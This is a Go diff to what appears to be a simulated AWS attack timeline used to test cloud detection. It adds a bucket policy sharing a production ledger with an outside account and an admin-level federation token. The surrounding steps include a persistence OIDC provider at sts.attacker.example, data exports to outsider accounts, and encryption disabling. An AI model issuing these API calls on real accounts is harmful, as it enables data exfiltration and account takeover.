@@ -25,6 +25,7 @@ const (
 	shareDisk     = `{"snapshotId":"snap-0f10dbadc0ffee001","createVolumePermission":{"add":{"items":[{"userId":"` + outsider + `"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}`
 	unshareDisk   = `{"snapshotId":"snap-0f10dbadc0ffee001","createVolumePermission":{"remove":{"items":[{"userId":"` + outsider + `"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}`
 	shareDatabase = `{"dBSnapshotIdentifier":"booking-prod-final","attributeName":"restore","valuesToAdd":["` + outsider + `"]}`
+	shareBucket   = `{"Version":"2012-10-17","Statement":[{"Sid":"Audit","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::` + outsider + `:root"},"Action":"s3:GetObject","Resource":"arn:aws:s3:::fjordbyte-prod-ledger-archive/*"}]}`
 	shareImage    = `{"imageId":"ami-0f10dbadc0ffee002","launchPermission":{"add":{"items":[{"userId":"` + outsider + `"}]}},"attributeType":"launchPermission"}`
 	keyPolicy     = `{"keyId":"arn:aws:kms:<region>:<account>:key/11111111-2222-4333-8444-555555555555","policyName":"default","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::` + outsider + `:root\"},\"Action\":\"kms:*\",\"Resource\":\"*\"}]}","bypassPolicyLockoutSafetyCheck":false}`
 	oldKey        = `{"keyId":"arn:aws:kms:<region>:<account>:key/99999999-8888-4777-8666-555555555555"`
@@ -87,6 +88,7 @@ var secondScript = [...]step{
 	{day: 1, clock: "02:08:11", by: theKey, where: inGlobal, api: "iam SetDefaultPolicyVersion", request: `{"policyArn":"arn:aws:iam::<account>:policy/booking-api-access","versionId":"v1"}`},
 	{day: 1, clock: "02:09:45", by: theKey, where: inGlobal, api: "iam CreateLoginProfile", request: `{"userName":"<user>","passwordResetRequired":false}`},
 	{day: 1, clock: "02:10:30", by: theKey, where: inGlobal, api: "iam CreateOpenIDConnectProvider", request: `{"url":"https://sts.attacker.example","clientIDList":["sts.amazonaws.com"],"thumbprintList":["<hex40>"]}`},
+	{day: 1, clock: "02:12:05", by: theKey, where: inGlobal, api: "sts GetFederationToken", request: `{"name":"support","durationSeconds":129600,"policyArns":[{"arn":"arn:aws:iam::aws:policy/AdministratorAccess"}]}`},
 	{day: 1, clock: "02:15:00", times: 2, every: 1200, by: theOutsider, api: "sts AssumeRole", request: stolenTurn},
 	{day: 2, clock: "02:35:00", times: 3, every: 120, by: theMachine, api: "ssm UpdateInstanceInformation", request: `{"instanceId":"` + stolenMachine + `","agentVersion":"3.3.2746.0","agentStatus":"Active","platformType":"Linux"}`},
 	{day: 2, clock: "02:40:12", by: theThief, where: inGlobal, api: "sts GetCallerIdentity"},
@@ -107,6 +109,7 @@ var secondScript = [...]step{
 	{day: 3, clock: "00:57:44", by: theKey, api: "rds ModifyDBInstance", request: `{"dBInstanceIdentifier":"ledger-prod-01","publiclyAccessible":true,"applyImmediately":true}`},
 	{day: 3, clock: "00:58:36", by: theKey, api: "ec2 DisableEbsEncryptionByDefault", request: `{"DisableEbsEncryptionByDefaultRequest":{}}`},
 	{day: 4, clock: "02:26:14", by: theKey, api: "s3 PutBucketReplication", request: replicate},
+	{day: 4, clock: "02:27:30", by: theKey, api: "s3 PutBucketPolicy", request: `{"bucketPolicy":` + shareBucket + `,"bucketName":"fjordbyte-prod-ledger-archive","Host":"fjordbyte-prod-ledger-archive.s3.<region>.amazonaws.com","policy":""}`},
 	{day: 4, clock: "02:28:51", by: theKey, api: "dynamodb ExportTableToPointInTime", request: `{"tableArn":"arn:aws:dynamodb:<region>:<account>:table/booking-orders-prod","s3Bucket":"offsite-7731","s3BucketOwner":"` + outsider + `","exportFormat":"DYNAMODB_JSON"}`},
 	{day: 5, clock: "01:40:00", times: 25, every: 4, by: theKey, api: "s3 DeleteObject"},
 	{day: 5, clock: "02:06:40", by: theKey, where: inGlobal, api: "organizations LeaveOrganization", code: "AccessDenied", message: refusedSCP},
